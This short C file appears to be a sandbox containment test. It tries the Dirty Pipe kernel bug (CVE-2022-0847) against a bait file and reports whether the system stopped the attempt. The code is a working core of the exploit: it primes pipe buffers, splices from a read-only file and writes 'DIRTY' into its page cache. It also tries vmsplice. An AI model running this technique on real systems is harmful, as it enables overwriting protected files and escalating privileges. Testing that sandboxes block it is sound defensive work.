// what: writes into the page cache of a read-only file through a spliced pipe (CVE-2022-0847)
// expect: exited 0
// stdout: contained
#include <sys/uio.h>

#include "attempt.h"

int main(void) {
  const char* victim = getenv("BAIT_FILE");
  int ends[2], file = open(victim, O_RDONLY);
  pipe(ends);
  static char junk[4096];
  for (int size = fcntl(ends[1], F_GETPIPE_SZ); size > 0; size -= (int)sizeof junk) write(ends[1], junk, sizeof junk);
  for (int size = fcntl(ends[1], F_GETPIPE_SZ); size > 0; size -= (int)sizeof junk) read(ends[0], junk, sizeof junk);
  off64_t offset = 0;
  if (splice(file, &offset, ends[1], NULL, 1, 0) != 1) escaped("nothing was spliced: the attempt was none");
  write(ends[1], "DIRTY", 5);
  char text[16] = {0};
  pread(file, text, sizeof text - 1, 0);
  attempt(strstr(text, "DIRTY") != NULL, "the file changed");
  struct iovec vector = {junk, sizeof junk};
  attempt(vmsplice(ends[1], &vector, 1, SPLICE_F_GIFT) >= 0, "vmsplice");
  return contained();
}
